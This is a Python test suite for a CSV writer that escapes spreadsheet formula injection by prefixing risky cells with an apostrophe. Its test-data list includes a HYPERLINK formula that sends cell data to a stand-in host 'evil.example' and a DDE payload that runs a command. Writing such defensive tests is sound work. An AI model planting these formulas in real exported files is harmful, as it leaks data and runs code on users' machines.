"""A table we write opens in a spreadsheet and runs nothing that somebody typed."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.wire.csv_safe import plain, safe, write

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]  # fmt: skip


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_table_has_the_mark_the_header_and_the_line_ends_spreadsheets_expect() -> None:
    assert write(["name", "votes"], [["Ana", 3]]) == b"\xef\xbb\xbfname,votes\r\nAna,3\r\n"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(attack: str) -> None:
    assert rows(write([attack], [[attack]])) == [[f"'{attack}"], [f"'{attack}"]]


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    assert (
        write(["n"], [[-5], [2.5], [None], [0]]).decode("utf-8-sig")
        == 'n\r\n-5\r\n2.5\r\n""\r\n0\r\n'
    )


def test_quotes_commas_and_line_breaks_survive() -> None:
    text = 'He said "no", twice;\nthen left'
    assert rows(write(["text"], [[text]]))[1] == [text]


@pytest.mark.parametrize("name", ["'t Hooft", "O'Neill", "城市", "", "'"])
def test_an_honest_text_is_left_alone(name: str) -> None:
    assert safe(name) == name
    assert plain(name) == name


@given(st.text())
def test_no_text_stays_dangerous_and_every_one_can_be_read_back(text: str) -> None:
    assert not safe(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain(safe(text)) == text
